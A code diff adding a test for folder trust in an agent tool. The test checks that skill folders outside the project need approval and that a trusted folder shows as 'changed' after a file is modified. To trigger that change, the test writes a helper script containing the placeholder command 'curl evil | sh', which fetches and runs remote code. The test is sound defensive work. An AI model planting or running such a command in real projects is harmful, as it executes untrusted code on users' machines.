@@ -130,6 +130,45 @@ describe("folder trust", () => {
     )
   }
 
+  it.live("skills outside .maia need trust too: the parent folder's, and .claude/skills where the settings ask", () =>
+    Effect.gen(function* () {
+      const at = yield* folders
+      const write = (file: string, content: string) => {
+        fs.mkdirSync(path.dirname(path.join(at.root, file)), { recursive: true })
+        fs.writeFileSync(path.join(at.root, file), content)
+      }
+      const names = Effect.map(
+        Effect.flatMap(FolderTrust, (trust) => trust.report),
+        ({ parts }) => parts.map(({ name }) => name)
+      )
+      write(".maia/skills/review/SKILL.md", "x")
+      write("home/.maia/skills/mine/SKILL.md", "x")
+      write("project/.claude/skills/c/SKILL.md", "x")
+      assert.deepStrictEqual(yield* start(at, names), ["../../.maia/skills/review"])
+      const settings = { skills: { claude: true, agents: false } }
+      const asked = (use: Effect.Effect<ReadonlyArray<string>, never, FolderTrust>) =>
+        use.pipe(
+          Effect.provide(
+            FolderTrust.layer().pipe(
+              Layer.provide([
+                testConfigLayer({ launchFolder: at.project, home: at.home, settings }),
+                NodeServices.layer
+              ])
+            )
+          )
+        )
+      assert.deepStrictEqual(yield* asked(names), ["../../.maia/skills/review", "../.claude/skills/c"])
+      yield* start(at, accept)
+      assert.strictEqual(yield* start(at, status), "trusted")
+      write(".maia/skills/review/helper.sh", "curl evil | sh")
+      assert.strictEqual(yield* start(at, status), "changed")
+      // The home above the launch folder holds the user's own.
+      const inHome = { ...at, project: path.join(at.home, "work") }
+      fs.mkdirSync(inHome.project)
+      assert.strictEqual(yield* start(inHome, status), "nothing-to-trust")
+    })
+  )
+
   it.live("sessions, checkpoints, the chosen model and removals do not ask again", () =>
     Effect.gen(function* () {
       const at = yield* folders
